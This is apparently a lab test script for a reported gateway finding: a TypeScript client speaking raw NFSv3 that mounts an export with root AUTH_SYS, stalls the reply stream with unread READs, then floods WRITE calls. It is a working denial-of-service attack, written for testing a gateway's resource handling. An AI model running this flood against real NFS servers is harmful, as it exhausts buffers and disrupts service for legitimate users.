/**
 * A hostile NFSv3 guest for issue 14 (finding 2), run inside a lab guest
 * namespace: `node nfs-flood.js HOST FILE SECONDS`. It mounts HOST's
 * /export/acme (MOUNT v3 on 20048), looks FILE up, asks for 96 READs of
 * 1 MiB on one connection and never reads their replies, so the backend's
 * reply stream stalls mid-record; then, for SECONDS, it sends NFSv3 WRITE
 * calls as fast as the connection takes them (on a read-only grant the
 * gateway answers each one itself with NFS3ERR_ROFS). Prints one JSON line:
 * bytes and calls sent. Raw record marking and XDR, no NFS library.
 */
import * as net from 'node:net';

const LAST = 0x80000000;
const PROG_NFS = 100003;
const PROG_MOUNT = 100005;
/** READs of 1 MiB asked for and never read (of a file of at least 64 MiB). */
const READS = 96;

/** An RPC call (RFC 5531 §9) with AUTH_SYS root, as one last fragment. */
function call(xid: number, prog: number, vers: number, proc: number, args: Buffer): Buffer {
  const h = Buffer.alloc(4 + 60);
  const words = [(LAST | (60 + args.length)) >>> 0, xid, 0, 2, prog, vers, proc, 1, 20, 0, 0, 0, 0, 0, 0, 0];
  words.forEach((w, i) => h.writeUInt32BE(w, i * 4));
  return Buffer.concat([h, args]);
}

/** XDR opaque<> / string: length, bytes, padding. */
function opaque(b: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(b.length, 0);
  return Buffer.concat([len, b, Buffer.alloc((4 - (b.length % 4)) % 4)]);
}

function u32(...v: number[]): Buffer {
  const b = Buffer.alloc(4 * v.length);
  v.forEach((x, i) => b.writeUInt32BE(x >>> 0, i * 4));
  return b;
}

function connect(host: string, port: number): Promise<net.Socket> {
  return new Promise((resolve, reject) => {
    const s = net.connect({ host, port });
    s.once('connect', () => resolve(s));
    s.once('error', reject);
  });
}

/** Sends one call and returns the reply's result (after the accepted-reply header), or throws. */
function rpc(sock: net.Socket, c: Buffer): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    let buf = Buffer.alloc(0);
    const onData = (d: Buffer): void => {
      buf = Buffer.concat([buf, d]);
      if (buf.length < 4) {
        return;
      }
      const len = buf.readUInt32BE(0) & 0x7fffffff;
      if (buf.length < 4 + len) {
        return;
      }
      sock.off('data', onData);
      const rec = buf.subarray(4, 4 + len);
      // xid, REPLY, MSG_ACCEPTED, verifier (flavor, len, body), accept_stat
      const verfLen = rec.readUInt32BE(16);
      const at = 20 + verfLen;
      if (rec.readUInt32BE(8) !== 0 || rec.readUInt32BE(at) !== 0) {
        reject(new Error(`call refused: ${rec.subarray(0, 32).toString('hex')}`));
        return;
      }
      resolve(rec.subarray(at + 4));
    };
    sock.on('data', onData);
    sock.write(c);
  });
}

/** An XDR opaque at `at`: its bytes. */
function readOpaque(b: Buffer, at: number): Buffer {
  const len = b.readUInt32BE(at);
  return b.subarray(at + 4, at + 4 + len);
}

async function main(): Promise<void> {
  const [host = '198.18.0.100', file = 'blob64m', secs = '15'] = process.argv.slice(2);
  const m = await connect(host, 20048);
  const mnt = await rpc(m, call(1, PROG_MOUNT, 3, 1, opaque(Buffer.from('/export/acme'))));
  if (mnt.readUInt32BE(0) !== 0) {
    throw new Error(`MNT status ${mnt.readUInt32BE(0)}`);
  }
  const root = readOpaque(mnt, 4);
  m.destroy();

  const s = await connect(host, 2049);
  s.on('error', () => undefined);
  const look = await rpc(s, call(2, PROG_NFS, 3, 3, Buffer.concat([opaque(root), opaque(Buffer.from(file))])));
  if (look.readUInt32BE(0) !== 0) {
    throw new Error(`LOOKUP status ${look.readUInt32BE(0)}`);
  }
  const fh = readOpaque(look, 4);
  // From here on nothing is read: the replies to these READs stall. More
  // than every buffer on the way can take (the lab's tcp_rmem allows 32 MiB
  // per socket: the guest's, the gateway's backend leg; 4 MiB of send
  // buffer at the gateway and the server), so the stream stops mid-record.
  s.pause();
  for (let i = 0; i < READS; i++) {
    s.write(call(10 + i, PROG_NFS, 3, 6, Buffer.concat([opaque(fh), u32(0, (i % 64) * 1024 * 1024, 1024 * 1024)])));
  }
  // WRITE3args: file, offset, count, stable, data<> (empty).
  const args = Buffer.concat([opaque(fh), u32(0, 0, 0, 0, 0)]);
  const deadline = Date.now() + Number(secs) * 1000;
  let xid = 1000;
  let sent = 0;
  let calls = 0;
  while (Date.now() < deadline && !s.destroyed) {
    const batch = Buffer.concat(Array.from({ length: 1000 }, () => call(xid++, PROG_NFS, 3, 7, args)));
    calls += 1000;
    sent += batch.length;
    if (!s.write(batch)) {
      // The gateway stopped reading (or is slow): wait for it, or the end.
      await new Promise<void>((r) => {
        const timer = setTimeout(r, Math.max(0, deadline - Date.now()));
        s.once('drain', () => {
          clearTimeout(timer);
          r();
        });
      });
    }
  }
  // writableLength: what the gateway never took (still in this process).
  process.stdout.write(`${JSON.stringify({ sentBytes: sent, calls, unsentBytes: s.writableLength, destroyed: s.destroyed })}\n`);
  s.destroy();
}

main().catch((err: unknown) => {
  process.stderr.write(`nfs-flood: ${(err as Error).message}\n`);
  process.exitCode = 1;
});
